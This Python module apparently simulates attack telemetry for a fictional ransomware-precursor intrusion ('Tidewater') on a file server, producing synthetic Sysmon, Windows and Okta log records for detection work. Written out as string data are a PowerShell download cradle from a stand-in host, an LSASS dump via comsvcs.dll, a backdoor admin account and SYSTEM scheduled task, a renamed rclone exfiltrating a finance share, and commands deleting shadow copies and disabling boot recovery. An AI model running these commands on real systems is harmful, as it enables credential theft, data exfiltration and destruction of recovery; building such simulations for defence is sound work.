"""Tidewater's last chapter: the file server, up to the moment before encryption."""

from watchfloor.event import Entity
from watchfloor.simulate import directory, logons, okta, sysmon, windows
from watchfloor.simulate.places import VPN_POOL
from watchfloor.simulate.record import Episode, Record, Scene, thing, user

STAGE_HOST, STAGE_ADDRESS = "cdn-harbor-sync.example", "203.0.113.77"
DROP_HOST, DROP_ADDRESS = "storage-relay.example", "2001:db8:bad:5::78"
FOOTHOLD = r"C:\ProgramData\svcmon.exe"
DOWNLOAD = f"IEX (New-Object Net.WebClient).DownloadString('https://{STAGE_HOST}/a.ps1')"
LSASS = 712
DUMP = rf"C:\Windows\System32\comsvcs.dll, MiniDump {LSASS} C:\ProgramData\lsass.dmp full"
UPLOAD = r"copy D:\Shares\Finance remote:nh-finance --transfers 16 --no-check-certificate"
SYSTEM32 = "C:\\Windows\\System32\\"
IMPAIR = (
    ("17:02:10", "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    ("17:02:44", "wbadmin.exe", "wbadmin delete catalog -quiet"),
    ("17:03:05", "bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    ("17:03:21", "bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
)


def precursors(scene: Scene, visit: okta.Visit) -> Episode:
    """From the VPN to a server that could be encrypted the next minute."""
    host, victim = scene.company.server("file server").name, visit.person
    stage = _Stage(scene, host, windows.session(scene, windows.account_of(scene.company, victim), elevated=True))
    records = [okta.sso(scene, scene.at("16:18:20"), visit, okta.VPN)]
    records += stage.arrive()
    records += stage.fetch_tools()
    records += stage.read_lsass()
    records += stage.stay()
    records += stage.upload()
    impaired = stage.impair()
    records += impaired
    return Episode(
        id="tidewater-ransomware_precursors-recovery_removed",
        kind="attack",
        use_case="ransomware_precursors",
        variant="recovery_removed",
        campaign="tidewater",
        decisive=impaired[0].time,
        entities=(user(victim), Entity("host", f"host:{host.lower()}", host), thing("address", STAGE_ADDRESS)),
        records=tuple(records),
    )


class _Stage:
    """The file server while the intruder is on it."""

    def __init__(self, scene: Scene, host: str, logon: windows.Logon) -> None:
        self.scene = scene
        self.host = host
        self.logon = logon
        self.address = scene.company.server("file server").address
        self.shell = self._process("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
        self.prompt = self._process(SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"')

    def arrive(self) -> list[Record]:
        """A remote desktop logon from a VPN address, with administrator privileges."""
        time = self.scene.at("16:20:40")
        return [
            logons.logged_on(
                self.scene, time, self.host, self.logon, logons.REMOTE, address=f"{VPN_POOL}.61", source="KALI-VM"
            ),
            logons.privileged(self.scene, time + 2, self.host, self.logon),
            *self._start("16:21:30", self.prompt, self.shell),
        ]

    def fetch_tools(self) -> list[Record]:
        """PowerShell downloads a script and drops a program."""
        image = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
        line = f"powershell.exe -nop -w hidden -enc {windows.encoded(DOWNLOAD)}"
        shell = self._process(image, line)
        time = self.scene.at("16:22:05")
        account = self.logon.account
        return [
            *self._start("16:22:04", shell, self.prompt),
            windows.script_block(self.scene, time + 1_200, self.host, account, DOWNLOAD, suspicious=True),
            sysmon.resolved(self.scene, time + 1_500, self.host, shell, name=STAGE_HOST, address=STAGE_ADDRESS),
            sysmon.connected(
                self.scene,
                time + 1_900,
                self.host,
                shell,
                source=self.address,
                address=STAGE_ADDRESS,
                port=443,
                name=STAGE_HOST,
            ),
            sysmon.file_created(self.scene, time + 6_000, self.host, shell, FOOTHOLD),
        ]

    def read_lsass(self) -> list[Record]:
        """The dropped program opens LSASS; then ``comsvcs.dll`` writes its memory to a file."""
        lsass = sysmon.process(self.scene, SYSTEM32 + "lsass.exe", "", windows.session(self.scene, windows.SYSTEM))
        lsass = lsass._replace(pid=LSASS)
        foothold = self._process(FOOTHOLD, FOOTHOLD)
        dumper = self._process(SYSTEM32 + "rundll32.exe", f"rundll32.exe {DUMP}")
        trace = rf"C:\Windows\SYSTEM32\ntdll.dll+9d584|C:\Windows\System32\KERNELBASE.dll+2730e|{FOOTHOLD}+1a2f"
        opened = self.scene.at("16:29:12")
        return [
            *self._start("16:28:50", foothold, self.prompt),
            sysmon.accessed(self.scene, opened, self.host, foothold, lsass, access="0x1410", trace=trace),
            *self._start("16:31:02", dumper, self.prompt),
            sysmon.file_created(self.scene, self.scene.at("16:31:04"), self.host, dumper, r"C:\ProgramData\lsass.dmp"),
        ]

    def stay(self) -> list[Record]:
        """A local administrator of their own, and a task that starts with the machine."""
        local = windows.Account(f"{self.scene.company.domain_sid[:-4]}9999-1021", "svc_backup2", self.host)
        create = self._process(SYSTEM32 + "net.exe", "net user svc_backup2 Pa55w0rd-Example /add")
        promote = self._process(SYSTEM32 + "net.exe", "net localgroup Administrators svc_backup2 /add")
        line = rf'schtasks /create /tn "\Microsoft\Windows\SvcMon" /tr {FOOTHOLD} /sc onstart /ru SYSTEM'
        schedule = self._process(SYSTEM32 + "schtasks.exe", line)
        created, joined, task = (self.scene.at(clock) for clock in ("16:36:11", "16:36:32", "16:40:05"))
        task_name = r"\Microsoft\Windows\SvcMon"
        return [
            *self._start("16:36:10", create, self.prompt),
            directory.account_created(self.scene, created, self.host, self.logon, local),
            *self._start("16:36:31", promote, self.prompt),
            directory.joined_group(self.scene, joined, self.host, self.logon, local),
            *self._start("16:40:04", schedule, self.prompt),
            windows.task_created(
                self.scene, task, self.host, self.logon, task_name, command=FOOTHOLD, arguments="-k netsvcs"
            ),
        ]

    def upload(self) -> list[Record]:
        """The finance share leaves, with a renamed rclone."""
        tool = r"C:\ProgramData\hostsvc.exe"
        copier = self._process(tool, f"{tool} {UPLOAD}")
        address = "2001:db8:20:10::20"
        records = self._start("16:47:10", copier, self.prompt, original="rclone.exe")
        records.append(
            sysmon.resolved(
                self.scene, self.scene.at("16:47:12"), self.host, copier, name=DROP_HOST, address=DROP_ADDRESS
            )
        )
        for time in self.scene.spread(self.scene.at("16:47:13"), self.scene.at("16:58"), 16):
            records.append(
                sysmon.connected(
                    self.scene, time, self.host, copier, source=address, address=DROP_ADDRESS, port=443, name=DROP_HOST
                )
            )
        return records

    def impair(self) -> list[Record]:
        """Recovery is removed: shadow copies, the backup catalogue, the boot repair."""
        records: list[Record] = []
        for clock, program, line in IMPAIR:
            records += self._start(clock, self._process(SYSTEM32 + program, line), self.prompt)
        return records

    def _process(self, image: str, line: str) -> windows.Process:
        return sysmon.process(self.scene, image, line, self.logon)

    def _start(
        self, clock: str, child: windows.Process, parent: windows.Process, *, original: str = ""
    ) -> list[Record]:
        time = self.scene.at(clock)
        return [
            windows.process_created(self.scene, time, self.host, child, parent),
            sysmon.created(self.scene, time + 3, self.host, child, parent, original=original),
        ]
